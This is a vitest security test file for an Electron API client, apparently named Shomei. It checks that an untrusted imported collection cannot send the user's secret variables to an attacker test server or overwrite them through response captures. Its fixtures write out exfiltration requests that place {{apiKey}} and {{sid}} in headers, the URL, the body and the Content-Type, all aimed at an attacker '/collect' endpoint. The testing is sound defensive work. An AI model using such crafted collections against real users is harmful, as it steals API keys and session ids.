import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createDispatcher, type CallContext } from '../../electron/ipc/dispatcher';
import { createHandlers } from '../../electron/ipc/handlers';
import { createMemorySecretValueStore } from '../../electron/core/variables/secret-value-store';
import { startAttacker, type Attacker } from '../support/attacker-server';
import { shomeiCollectionFile } from '../support/shomei-file';
import { createTestCore } from '../support/test-core';

// The user's own environment holds secret variables (an API key, a session id). A shared
// collection needs no AWS keys to steal those: an unsigned request that names {{apiKey}} and points
// at the attacker would do — until the collection is trusted.
const API_KEY = 'user-api-key-0123456789abcdef';
const SESSION = 'user-session-fedcba9876543210';

type Answer = { ok: boolean; value?: unknown; error?: { code: string; message: string } };
const context: CallContext = { emit: () => undefined };
let attacker: Attacker;
let test: ReturnType<typeof createTestCore>;
let call: (channel: string, input: unknown) => Promise<Answer>;

beforeAll(async () => {
  attacker = await startAttacker();
});
afterAll(() => attacker.close());
beforeEach(async () => {
  test = createTestCore({ secrets: createMemorySecretValueStore() });
  const dispatcher = createDispatcher(createHandlers(test.core));
  call = (channel, input) => dispatcher.dispatch(channel, input, context) as Promise<Answer>;
  // Made in the app, so trusted: the user's own environment.
  const env = await test.core.environments.create({
    name: 'mine',
    variables: [
      { name: 'apiKey', value: API_KEY, isSecret: true },
      { name: 'sid', value: SESSION, isSecret: true },
      { name: 'auth', value: 'Key {{apiKey}}', isSecret: false },
      { name: 'region', value: 'eu-west-1', isSecret: false },
    ],
  });
  test.core.environments.setActive(env.id);
  attacker.received.length = 0;
});
afterEach(() => test.dispose());

/** A shared collection with one unsigned request per place a secret variable can ride in. */
async function importShared(): Promise<string> {
  const request = (name: string, extra: object) => ({
    kind: 'request',
    id: name,
    name,
    method: 'POST',
    url: `${attacker.origin}/collect`,
    auth: { type: 'none' },
    ...extra,
  });
  const imported = await call('import:run', {
    text: shomeiCollectionFile('Weather API', [
      request('header', { headers: [{ name: 'X-Api-Key', value: '{{apiKey}}', isEnabled: true }] }),
      request('query', { url: `${attacker.origin}/collect?k={{apiKey}}` }),
      request('body', { body: { kind: 'text', language: 'json', text: '{"sid":"{{sid}}"}' } }),
      request('content-type', {
        body: { kind: 'text', language: 'raw', text: 'hello', contentType: 'text/plain; key={{apiKey}}' },
      }),
      request('form', {
        body: { kind: 'form-urlencoded', rows: [{ name: 's', value: '{{sid}}', isEnabled: true }] },
      }),
      request('through', { headers: [{ name: 'Authorization', value: '{{auth}}', isEnabled: true }] }),
      request('plain', { url: `${attacker.origin}/forecast?region={{region}}` }),
      // The attacker answers `thanks`; a capture would write it over the user's own {{region}}.
      request('capture', {
        url: `${attacker.origin}/forecast`,
        captures: [{ id: 'c1', variable: 'region', from: { kind: 'regex', pattern: '(.+)' } }],
      }),
    ]),
  });
  return (imported.value as { collectionId: string }).collectionId;
}

function input(collectionId: string, name: string) {
  const item = test.core.collections.getCollection(collectionId).items.find((i) => i.name === name);
  if (item?.kind !== 'request') throw new Error(`no request ${name}`);
  const { kind: _kind, id, ...request } = item;
  return { request, savedRequestId: id };
}

let sends = 0;
const send = (body: object) => call('request:send-draft', { requestId: `s${(sends += 1)}`, ...body });

/** The user's active environment's value of `name`. */
const valueOf = (name: string) => test.core.environments.getActive()?.variables.find((v) => v.name === name)?.value;

describe('an imported collection, until the user trusts it', () => {
  it.each([
    ['a header', 'header', '{{apiKey}} (the header X-Api-Key)'],
    ['the query', 'query', '{{apiKey}} (the URL)'],
    ['a body text', 'body', '{{sid}} (the body)'],
    ['a form field', 'form', '{{sid}} (the body)'],
    ['the body’s Content-Type', 'content-type', '{{apiKey}} (the Content-Type)'],
    ['another variable', 'through', '{{apiKey}} (the header Authorization)'],
  ])('sends no secret variable of the user’s environment in %s', async (_where, name, named) => {
    const collectionId = await importShared();
    const refused = await send(input(collectionId, name));
    expect(refused).toMatchObject({ ok: false, error: { code: 'UNTRUSTED' } });
    expect(refused.error?.message).toBe(
      `Not sent: the collection "Weather API" was imported and is not trusted yet, and this request would send the secret variable ${named}. Review what it does in the banner above the request, and trust the collection to allow it.`,
    );
    // Nor does the Copy presigned URL, inspector or identity path resolve it.
    expect(await call('request:inspect-draft', input(collectionId, name))).toMatchObject({
      ok: false,
      error: { code: 'UNTRUSTED' },
    });
    expect(attacker.received).toEqual([]);
  });

  it('may still use the environment’s ordinary variables; once trusted, the secret ones go where it says', async () => {
    const collectionId = await importShared();
    expect(await send(input(collectionId, 'plain'))).toMatchObject({ ok: true, value: { status: 200 } });
    expect(attacker.received.at(-1)?.target).toBe('/forecast?region=eu-west-1');
    await call('trust:trust-collection', { collectionId });
    expect(await send(input(collectionId, 'header'))).toMatchObject({ ok: true, value: { status: 200 } });
    expect(attacker.received.at(-1)?.headers).toContain(API_KEY);
  });

  it('cannot rewrite the user’s environment with a capture from its answer; once trusted, its captures are stored', async () => {
    const collectionId = await importShared();
    const sent = await send(input(collectionId, 'capture'));
    expect(sent).toMatchObject({
      ok: true,
      value: {
        tests: {
          captures: [
            {
              variable: 'region',
              isCaptured: true,
              storedIn:
                'nowhere: the collection "Weather API" is not trusted yet, so its answers do not change your environment',
            },
          ],
        },
      },
    });
    expect(valueOf('region')).toBe('eu-west-1');
    await call('trust:trust-collection', { collectionId });
    expect(await send(input(collectionId, 'capture'))).toMatchObject({
      ok: true,
      value: { tests: { captures: [{ storedIn: 'environment “mine”' }] } },
    });
    expect(valueOf('region')).toBe('thanks');
  });
});
